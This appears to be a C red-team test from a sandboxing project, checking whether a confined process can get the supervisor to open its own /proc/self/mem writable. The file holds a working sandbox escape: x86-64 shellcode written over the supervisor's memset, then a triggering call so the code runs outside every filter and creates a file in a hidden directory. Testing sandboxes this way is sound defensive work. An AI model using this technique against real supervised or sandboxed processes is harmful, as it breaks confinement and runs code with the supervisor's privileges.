/* SPDX-License-Identifier: ISC */
/*
 * exec_supervisor_mem.c: the supervisor's own memory, opened for writing
 * by the supervisor and handed in (issue 46, the supervisor).
 *
 * In an exec tree, an open with set-ID mode bits is made by the
 * supervisor (sup_make_stripped(), see exec_setid_open.c).  The path is
 * looked up by the supervisor, and /proc/self there is the supervisor:
 * "/proc/self/mem", O_WRONLY|O_CREAT, mode 04600, is its memory, opened
 * writable (root: the file of an undumpable process is root's 0600)
 * and handed in.  The attacker writes code over memset (the supervisor
 * calls it for every notification; its address is this process's, as
 * the supervisor is a fork) and makes one more call: the supervisor,
 * outside every filter and Landlock domain, runs it.  The code makes
 * hidden/escaped, in the directory the attacker's unveil hides.
 */
#include <sys/stat.h>
#include <sys/syscall.h>

#include <fcntl.h>
#include <stdint.h>
#include <string.h>
#include <unistd.h>

#include "redteam.h"

/* openat(AT_FDCWD, path, O_WRONLY|O_CREAT, 0644), exit_group(0); path after */
#if defined(__x86_64__)
static const unsigned char code[] = {
	0x48, 0xc7, 0xc7, 0x9c, 0xff, 0xff, 0xff,	/* mov $-100, %rdi */
	0x48, 0x8d, 0x35, 0x1b, 0x00, 0x00, 0x00,	/* lea 0x1b(%rip), %rsi */
	0xba, 0x41, 0x00, 0x00, 0x00,			/* mov $0x41, %edx */
	0x41, 0xba, 0xa4, 0x01, 0x00, 0x00,		/* mov $0644, %r10d */
	0xb8, 0x01, 0x01, 0x00, 0x00,			/* mov $257, %eax */
	0x0f, 0x05,					/* syscall */
	0x31, 0xff,					/* xor %edi, %edi */
	0xb8, 0xe7, 0x00, 0x00, 0x00,			/* mov $231, %eax */
	0x0f, 0x05,					/* syscall */
};
#else
static const unsigned char code[1];	/* never run: main() says n/a */
#endif

struct attempt {
	int		 tamed;
};

static int
attack(void *arg)
{
	const struct attempt *a = arg;
	unsigned char buf[sizeof(code) + PATH_MAX];
	const char *p = rt_path("hidden/escaped");
	long fd;

	if (a->tamed) {
		rt_unveil(rt_path("visible"), "rwc");
		rt_pledge("stdio rpath wpath cpath exec", NULL);
	}
	memcpy(buf, code, sizeof(code));
	memcpy(buf + sizeof(code), p, strlen(p) + 1);
	fd = open("/proc/self/mem", O_WRONLY | O_CREAT, 04600);
	rt_sh->ret = fd;
	if (fd < 0)
		return 1;
	if (!a->tamed)
		return 0;	/* our own memory: nothing to show */
	rt_sh->where = (uint64_t)(uintptr_t)memset;
	if (pwrite((int)fd, buf, sizeof(code) + strlen(p) + 1,
	    (off_t)(uintptr_t)memset) < 0)
		return 2;
	/* one more call the supervisor answers */
	access(rt_path("visible"), F_OK);
	open(rt_path("visible/x"), O_WRONLY | O_CREAT, 04600);
	usleep(200000);
	return 0;
}

int
main(int argc, char **argv)
{
	struct attempt a = { 0 };
	struct rt_kid k;

	rt_init(argc, argv);
#if !defined(__x86_64__)
	rt_na("the code is x86-64's");
	return rt_finish();
#endif
	if (!rt_is_root()) {
		rt_na("not root: the undumpable supervisor's /proc/self/mem "
		    "is root's 0600, which it cannot open itself");
		return rt_finish();
	}
	if (!rt_need_landlock())
		return rt_finish();
	rt_two_dirs();
	rt_spawn(&k, attack, &a);
	rt_reap(&k);
	if (!rt_exited(k.status, 0)) {
		rt_na("untamed, /proc/self/mem O_WRONLY|O_CREAT did not open");
		return rt_finish();
	}
	a.tamed = 1;
	rt_spawn(&k, attack, &a);
	rt_reap(&k);
	rt_check(k.status);
	rt_debug("tamed attack: %s", rt_how(k.status));
	usleep(300000);
	if (rt_exists(rt_path("hidden/escaped")))
		rt_escaped("unveil(\"visible\", \"rwc\"), pledge(\"stdio rpath "
		    "wpath cpath exec\"): the supervisor's memory came in "
		    "writable (descriptor %ld); code written at %#llx ran in "
		    "it and made hidden/escaped", rt_sh->ret,
		    (unsigned long long)rt_sh->where);
	else
		rt_held("the supervisor's memory: open answered %ld, nothing "
		    "ran there", rt_sh->ret);
	return rt_finish();
}
